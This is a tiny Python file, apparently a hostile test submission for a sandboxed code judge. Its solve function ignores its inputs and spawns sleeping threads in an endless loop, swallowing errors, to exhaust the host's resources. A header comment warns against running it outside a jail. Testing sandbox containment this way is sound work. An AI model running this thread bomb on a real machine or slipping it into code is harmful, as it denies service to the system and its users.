# Threads without end. Do not run outside a jail.
import threading
import time


def solve(a, b, out, n):
    while True:
        try:
            threading.Thread(target=time.sleep, args=(100,), daemon=True).start()
        except RuntimeError:
            pass
